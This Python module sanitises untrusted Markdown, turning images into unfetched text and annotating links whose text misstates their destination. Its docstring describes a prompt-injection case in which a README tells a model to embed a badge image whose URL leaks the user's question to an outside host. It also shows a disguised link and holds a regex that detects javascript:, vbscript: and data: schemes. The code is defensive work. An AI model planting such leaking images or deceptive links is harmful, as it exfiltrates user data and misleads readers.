"""Links and images in untrusted Markdown: no image loads, no link hides where it goes.

A rendered ``<img>`` fetches its URL as soon as the page shows it, so a README that tells the model to
"copy this badge" (``![](https://x/b.png?leak=<the question>)``) would make the visitor's browser call out
with whatever the URL carries. And ``[github.com/corp/app/SECURITY.md](https://elsewhere/)`` reads like a
place it is not. :func:`neutralize` rewrites one line (outside code) so that

* every image becomes text: ``🖼 alt (image from host, not loaded)`` — nothing is fetched, no exception
  (badge hosts included: a URL can carry anything);
* an inline link stays a link, and when its text looks like a URL or a path but its destination is
  somewhere else, the real destination is shown after it: ``[text](dest) (→ host/path)``;
* a ``javascript:``/``vbscript:``/``data:`` destination is left for the caller, whose escaping turns
  it into an inert fragment (``#unsafe-…``);
* every other ``[`` becomes ``\\[``: reference links and definitions, and links broken across lines,
  cannot form, so the only links left are the inline ones checked here.

Code spans are masked first (``mask``/``unmask``), so nothing inside them is touched or counted.
"""

from __future__ import annotations

import re
from bisect import bisect_left
from urllib.parse import unquote, urlsplit

_OPEN, _CLOSE = "\ue000", "\ue001"  # private-use marks around a masked code span's number
_MASK = re.compile(f"{_OPEN}(\\d+){_CLOSE}")
# A scheme that runs code or smuggles content. Browsers ignore tabs, newlines and spaces in a scheme, so
# we do too (markdown.py's escaping makes a link to one inert).
UNSAFE_SCHEME = r"(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|d\s*a\s*t\s*a)\s*:"
_UNSAFE_SCHEME = re.compile(rf"^\s*{UNSAFE_SCHEME}", re.IGNORECASE)
_TASK = re.compile(r"^(\s*(?:[-*+]|\d{1,9}[.)])\s+)\[([ xX])\](?=\s)")
_URLISH = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://)?(?:www\.)?(?:[a-z0-9-]+\.)+[a-z]{2,}(?::\d+)?(?:[/?#]\S*)?$", re.IGNORECASE
)
_PATHISH = re.compile(r"^[\w.~-]*(?:/[\w.~-]+)+/?$|^[\w~-][\w.~-]*\.[A-Za-z0-9]{1,8}$")
_EMPHASIS = re.compile(r"[*_~`\\]")


def mask(line: str, spans: list[str]) -> str:
    """``line`` with each code span (``spans`` in order) replaced by a private-use mark."""
    out: list[str] = []
    for is_code, text in spans_of(line):
        if is_code:
            out.append(f"{_OPEN}{len(spans)}{_CLOSE}")
            spans.append(text)
        else:
            out.append(text.replace(_OPEN, "\ufffd").replace(_CLOSE, "\ufffd"))
    return "".join(out)


def unmask(text: str, spans: list[str]) -> str:
    return _MASK.sub(lambda m: spans[int(m.group(1))], text)


_TICKS = re.compile(r"(?<!\\)`+")
_RUNS = re.compile(r"`+")


def spans_of(line: str) -> list[tuple[bool, str]]:
    """``(is_code, text)`` pieces of a line: code spans (with their backticks) and the text between.

    Linear: the backtick runs are listed once, by length, and a span's closing run is looked up (a scan
    to the end of the line for every unclosed run would be quadratic)."""
    pieces: list[tuple[bool, str]] = []
    runs: dict[int, list[int]] = {}  # run length -> starts of the maximal runs of that length, in order
    for run in _RUNS.finditer(line):
        runs.setdefault(run.end() - run.start(), []).append(run.start())
    i = 0
    while True:
        opening = _TICKS.search(line, i)
        if opening is None:
            pieces.append((False, line[i:]))
            return pieces
        width = opening.end() - opening.start()
        starts = runs.get(width, [])
        k = bisect_left(starts, opening.end())
        if k == len(starts):  # a lone backtick run is literal text
            pieces.append((False, line[i : opening.end()]))
            i = opening.end()
            continue
        close = starts[k] + width
        pieces.append((False, line[i : opening.start()]))
        pieces.append((True, line[opening.start() : close]))
        i = close


def neutralize(text: str, spans: list[str]) -> str:
    """One masked line with images made text and links checked (see the module docstring)."""
    if "[" not in text:
        return text
    start = 0
    out: list[str] = []
    task = _TASK.match(text)
    if task:
        out.append(task.group(0))
        start = task.end()
    _Scanner(text, spans, out).scan(start, len(text), 0)
    return "".join(out)


REPOSITORY_HOSTS = frozenset({"github.com", "www.github.com"})  # where an analysed repository's files are
MAX_DEPTH = 16  # links inside link labels deeper than this are not links (their brackets are escaped)
LABEL_MAX = 300  # a longer link text is not compared with its destination: the destination is shown
_PUNCT = re.compile(r"\\.|[\[\]()]", re.DOTALL)
_DEST_STOP = re.compile(r"[\\ \t()]")


class _Scanner:
    """One line's links and images, in time linear in the line (the work is property-tested).

    Brackets and parentheses are matched once, in one pass with a stack, so that a link's label and
    destination are found without scanning ahead from every ``[`` (``[`` repeated was quadratic); a
    label is scanned in place, not copied; nesting deeper than :data:`MAX_DEPTH` is escaped, not recursed.
    """

    def __init__(self, text: str, spans: list[str], out: list[str]) -> None:
        self.text, self.spans, self.out = text, spans, out
        self.bracket: dict[int, int] = {}  # "[" -> its "]"
        self.paren: dict[int, int] = {}  # "(" -> its ")"; an unclosed "(" is left out
        brackets: list[int] = []
        parens: list[int] = []
        for m in _PUNCT.finditer(text):
            c = m.group(0)
            if c == "[":
                brackets.append(m.start())
            elif c == "]" and brackets:
                self.bracket[brackets.pop()] = m.start()
            elif c == "(":
                parens.append(m.start())
            elif c == ")" and parens:
                self.paren[parens.pop()] = m.start()
        self._found: dict[str, list[int]] = {}

    def _next(self, char: str, start: int, end: int) -> int:
        """The first ``char`` in ``text[start:end]`` (its positions are listed once), else -1."""
        found = self._found.get(char)
        if found is None:
            found = self._found[char] = [m.start() for m in re.finditer(re.escape(char), self.text)]
        k = bisect_left(found, start)
        return found[k] if k < len(found) and found[k] < end else -1

    def scan(self, i: int, end: int, depth: int) -> None:
        text, out = self.text, self.out
        while i < end:
            c = text[i]
            if c == "\\" and i + 1 < end:
                out.append(text[i : i + 2])
                i += 2
            elif c == "!" and text.startswith("![", i) and i + 1 < end:
                link = self._link(i + 1, end, depth)
                if link is None:
                    out.append("!\\[")
                    i += 2
                else:
                    close, dest, after = link
                    out.append(_image_text(self._label(i + 2, close), dest, self.spans))
                    i = after
            elif c == "[":
                link = self._link(i, end, depth)
                if link is None:
                    out.append("\\[")
                    i += 1
                else:
                    close, dest, after = link
                    out.append("[")
                    self.scan(i + 1, close, depth + 1)
                    out.append(text[close:after])  # "](destination title)" as written
                    if not _UNSAFE_SCHEME.match(dest):  # the caller's escaping makes those inert
                        real = _misleading(self._label(i + 1, close), dest)
                        if real:
                            out.append(f" (→ {real})")
                    i = after
            else:
                out.append(c)
                i += 1

    def _label(self, start: int, close: int) -> str:
        """What a label reads as (:func:`_plain`); over :data:`LABEL_MAX` characters, cut."""
        return _plain(self.text[start : min(close, start + LABEL_MAX + 1)], self.spans)

    def _link(self, i: int, end: int, depth: int) -> tuple[int, str, int] | None:
        """``[label](destination "title")`` at ``text[i] == "["``, inside ``end``: (the label's "]", the
        destination, the end)."""
        text = self.text
        close = self.bracket.get(i)
        if depth >= MAX_DEPTH or close is None or close + 1 >= end or text[close + 1] != "(":
            return None
        j = self._skip_blanks(close + 2, end)
        dest_end = self._destination(j, end)
        if dest_end is None:
            return None
        dest_start, j = (j + 1, dest_end + 1) if text.startswith("<", j) else (j, dest_end)
        j = self._skip_blanks(j, end)
        if j < end and text[j] in "\"'(":
            closer = ")" if text[j] == "(" else text[j]
            title_end = self._next(closer, j + 1, end)
            if title_end < 0:
                return None
            j = self._skip_blanks(title_end + 1, end)
        if j >= end or text[j] != ")":
            return None
        return close, text[dest_start:dest_end], j + 1

    def _skip_blanks(self, j: int, end: int) -> int:
        while j < end and self.text[j] in " \t":
            j += 1
        return j

    def _destination(self, j: int, end: int) -> int | None:
        """Where the destination starting at ``j`` ends (a ``<…>`` one: at its ``>``, with no ``<``
        inside); None when it does not. Matched parentheses are jumped over."""
        text = self.text
        if j < end and text[j] == "<":
            close = self._next(">", j + 1, end)
            if close < 0 or self._next("<", j + 1, close) >= 0:
                return None
            return close
        while j < end:
            stop = _DEST_STOP.search(text, j, end)
            if stop is None:
                return end
            j = stop.start()
            c = text[j]
            if c == "\\":
                j += 2
            elif c == "(":
                matched = self.paren.get(j)
                blank = min(
                    (p for p in (self._next(" ", j, end), self._next("\t", j, end)) if p >= 0), default=end
                )
                if matched is None or matched > blank:
                    return blank  # unclosed before the next blank: the destination ends there
                j = matched + 1
            else:  # a blank, or a ")" that closes the link
                return j
        return min(j, end)


def _plain(label: str, spans: list[str]) -> str:
    """What a label reads as: code spans as their content, emphasis marks dropped (each code span cut
    after :data:`LABEL_MAX` characters: nested labels must not copy one long span again and again)."""
    text = _MASK.sub(lambda m: spans[int(m.group(1))][: LABEL_MAX + 1], label)
    return _EMPHASIS.sub("", text).strip()


def _split(dest: str) -> tuple[str, str] | None:
    """The destination's host (lower case, "" when relative) and path; None when it is no URL at all."""
    try:
        parts = urlsplit(dest.strip())
        return (parts.hostname or "").lower(), unquote(parts.path)
    except ValueError:  # "http://[x": not even a URL
        return None


def _where(dest: str) -> str:
    split = _split(dest)
    return split[0] if split is not None else "?"


def _image_text(alt_label: str, dest: str, spans: list[str]) -> str:
    alt = alt_label[:LABEL_MAX]
    host = _where(dest)
    where = f"image from {host}, not loaded" if host else "image not loaded"
    inner: list[str] = []
    flat = alt.replace("[", "(").replace("]", ")")
    _Scanner(flat, spans, inner).scan(0, len(flat), MAX_DEPTH)
    return f"🖼 {''.join(inner)} ({where})" if alt else f"🖼 ({where})"


def _misleading(text: str, dest: str) -> str | None:
    """Where ``dest`` really goes, when ``text`` reads like another URL or path; else None.

    A path (``src/app.py``) reads as a file of the analysed repository, so it is honest only on that
    repository's host (:data:`REPOSITORY_HOSTS`) and with that path at the end; a URL is honest when its
    host and path are the destination's. A text too long to compare always shows the destination."""
    split = _split(dest)
    if split is None:
        return dest.strip()[:60]
    host, path = split[0], split[1].rstrip("/")
    if not host or not text:
        return None  # relative: stays on this page
    real = (host + path)[:60]
    if len(text) > LABEL_MAX:
        return real
    if _URLISH.match(text):
        claimed = urlsplit(text if "://" in text else "//" + text)
        claimed_host = (claimed.hostname or "").lower().removeprefix("www.")
        claimed_path = unquote(claimed.path).rstrip("/")
        honest = claimed_host == host.removeprefix("www.") and path.startswith(claimed_path)
        return None if honest else real
    if _PATHISH.match(text):
        here = host in REPOSITORY_HOSTS
        return None if here and (path.endswith("/" + text.strip("/")) or path == text.strip("/")) else real
    return None
